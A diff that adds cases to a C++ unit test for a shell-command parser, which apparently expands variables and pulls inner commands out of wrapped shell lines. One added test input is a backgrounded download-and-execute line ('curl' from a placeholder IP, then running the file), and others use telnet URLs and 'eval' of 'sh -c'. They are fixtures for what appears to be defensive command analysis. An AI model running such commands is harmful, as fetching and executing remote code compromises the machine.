@@ -88,6 +88,9 @@ TEST(CommandLine, PutsInWhatTheLineSetBefore) {
     EXPECT_THAT(texts("C='curl -s telnet://a:1'; $C </dev/null"), Contains("curl -s telnet://a:1"));
     EXPECT_THAT(texts("export RHOST=a.example; ping $RHOST"), Contains("ping a.example"));
     EXPECT_THAT(texts("a=1; echo '$a' $b ${a:-2}"), Contains("echo $a $b ${a:-2}"));
+    EXPECT_THAT(texts("nohup $SHELL -c 'curl http://203.0.113.5/a -o b; ./b' &"),
+                Contains("curl http://203.0.113.5/a -o b"));
+    EXPECT_THAT(texts("SHELL=/bin/echo; ${SHELL} id"), Contains("/bin/echo id"));
     EXPECT_THAT(texts("c='sh -c \"id; w\"'; eval $c"), Contains("id"));
     std::string doubling = "a=0123456789";
     for (int i = 0; i < 40; ++i)
